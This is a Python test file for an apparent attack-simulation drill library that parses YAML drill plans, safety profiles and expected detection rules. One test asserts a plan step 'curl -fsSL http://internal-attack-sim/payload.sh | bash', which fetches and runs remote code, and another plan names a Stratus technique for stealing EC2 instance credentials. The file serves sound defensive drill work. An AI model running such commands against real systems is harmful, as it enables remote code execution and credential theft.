"""Drill plans: the seed's files load verbatim, bad plans give located errors."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from drillbook.domain.drill.plan import (
    AtomicTechnique,
    ExpectedDetection,
    InlineTechnique,
    StratusTechnique,
    parse_volume,
)
from drillbook.domain.drill.planfile import load_plan, load_safety_profile
from drillbook.domain.scenario.enums import Severity
from drillbook.errors import LibraryError


def test_seed_atomic_runner_loads_verbatim(seed_dir: Path) -> None:
    loaded = load_plan(seed_dir / "drills" / "atomic-runner.yml")
    [entry] = loaded.techniques
    assert isinstance(entry, InlineTechnique)
    assert entry.name == "T1059.004 - Bash payload via curl"
    assert entry.attack_id == "T1059.004"
    assert entry.test.strip() == "curl -fsSL http://internal-attack-sim/payload.sh | bash"
    assert entry.cleanup == "rm -f /tmp/payload.sh\n"
    assert entry.expected_detection == [
        ExpectedDetection(sigma_rule="rules/linux/process-creation/curl-bash-pipe.yml")
    ]
    assert loaded.plan.name == "atomic-runner"


def test_seed_safety_profile_loads_verbatim(seed_dir: Path) -> None:
    profile = load_safety_profile(seed_dir / "drills" / "safety-profile.yaml")
    assert profile.max_data_volume_simulated == "10MB"
    assert profile.max_data_volume_bytes == 10_000_000
    assert profile.destructive_actions_allowed is False
    assert "drill-test-account" in (profile.blast_radius or "")
    assert profile.abort_conditions[1] == "drill duration exceeds 30 minutes"
    assert profile.max_duration_delta() == timedelta(minutes=30)
    assert len(profile.notification) == 2
    assert profile.technique_timeout_seconds == 120


def test_plan_with_all_kinds_and_profile_by_path(tmp_path: Path, seed_dir: Path) -> None:
    (tmp_path / "safety.yaml").write_text((seed_dir / "drills" / "safety-profile.yaml").read_text())
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        "name: mixed\n"
        "target: {kind: cloud, profile: drill-test-account, provider: aws}\n"
        "safety: safety.yaml\n"
        "techniques:\n"
        "  - atomic: T1082\n    test: 3\n    inputs: {output_file: /tmp/x.txt}\n"
        "    expected_detection:\n      - rule_id: 0a2c1f2e-1111-2222-3333-444455556666\n"
        "        expected_severity: high\n"
        "  - stratus: aws.credential-access.ec2-steal-instance-credentials\n"
        "    expected_detection: {query: 'index=cloudtrail', backend: splunk}\n"
        "  - name: hello\n    test: echo hi\n"
    )
    loaded = load_plan(plan)
    atomic, stratus, inline = loaded.techniques
    assert isinstance(atomic, AtomicTechnique)
    assert atomic.inputs == {"output_file": "/tmp/x.txt"}
    assert atomic.expected_detection[0].expected_severity is Severity.HIGH
    assert isinstance(stratus, StratusTechnique)
    assert stratus.expected_detection[0].backend == "splunk"
    assert isinstance(inline, InlineTechnique)
    assert loaded.safety.max_data_volume_simulated == "10MB"


@pytest.mark.parametrize(
    ("body", "where", "words"),
    [
        ("name: x\ntechniques:\n  - atomic: T10\n    test: 1\n", ":3:", "ATT&CK technique id"),
        ("name: x\ntechniques:\n  - name: a\n    tset: echo\n", ":", "unknown key 'tset'"),
        (
            "name: x\ntechniques:\n  - name: a\n    test: echo\n    expected_detection:\n"
            "      - title: only a title\n",
            ":6:",
            "sigma_rule, rule_id or query",
        ),
        (
            "name: x\nsafety:\n  max_data_volume_simulated: lots\ntechniques:\n"
            "  - name: a\n    test: echo\n",
            ":3:",
            "not a data volume",
        ),
        (
            "name: x\ntarget: {kind: ssh}\ntechniques:\n  - name: a\n    test: echo\n",
            ":2:",
            "needs host",
        ),
        ("name: x\ntechniques: []\n", ":2:", "at least 1"),
        (
            "name: x\nsafety: nowhere.yaml\ntechniques:\n  - name: a\n    test: echo\n",
            ":2:",
            "not found",
        ),
    ],
)
def test_bad_plans_give_located_errors(tmp_path: Path, body: str, where: str, words: str) -> None:
    plan = tmp_path / "bad.yaml"
    plan.write_text(body)
    with pytest.raises(LibraryError) as caught:
        load_plan(plan)
    text = str(caught.value)
    assert f"{plan}{where}" in text
    assert words in text


def test_list_form_errors_are_located(tmp_path: Path) -> None:
    plan = tmp_path / "runner.yml"
    plan.write_text("- name: a\n  test: echo\n- name: b\n  cleanup: x\n")
    with pytest.raises(LibraryError) as caught:
        load_plan(plan)
    assert f"{plan}:3:" in str(caught.value)
    assert "missing required key 'test'" in str(caught.value)


def test_volume_units() -> None:
    assert parse_volume("512KiB") == 512 * 1024
    assert parse_volume("1 GB") == 10**9
    with pytest.raises(ValueError, match="data volume"):
        parse_volume("ten")


@given(
    st.integers(min_value=0, max_value=10**6),
    st.sampled_from(["B", "KB", "MB", "GB", "KiB", "MiB", "GiB", "mb"]),
)
def test_volume_property(number: int, unit: str) -> None:
    factor = {
        "b": 1,
        "kb": 10**3,
        "mb": 10**6,
        "gb": 10**9,
        "kib": 2**10,
        "mib": 2**20,
        "gib": 2**30,
    }[unit.lower()]
    assert parse_volume(f"{number}{unit}") == number * factor


@given(st.text(max_size=30))
def test_volume_rejects_or_parses_any_text(text: str) -> None:
    message = ""
    try:
        value = parse_volume(text)
    except ValueError as exc:
        value, message = -1, str(exc)
    assert value >= 0 or "data volume" in message


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet="-:{}[] \nabcnametsiufkl0123T.'\"#", max_size=120))
def test_any_plan_text_loads_or_gives_located_problems(tmp_path: Path, text: str) -> None:
    plan = tmp_path / "fuzz.yaml"
    plan.write_text(text, encoding="utf-8")
    problems = []
    try:
        load_plan(plan)
    except LibraryError as exc:
        problems = exc.problems
        assert problems, "a LibraryError always names its problems"
    assert all(p.location.path == str(plan) for p in problems)


def test_attire_times_are_utc_whatever_zone_they_come_in() -> None:
    from datetime import datetime, timedelta, timezone

    from drillbook.domain.drill.attire import _zulu

    paris = timezone(timedelta(hours=2))
    assert _zulu(datetime(2026, 5, 1, 12, 0, 0, 250000, tzinfo=paris)) == "2026-05-01T10:00:00.250Z"
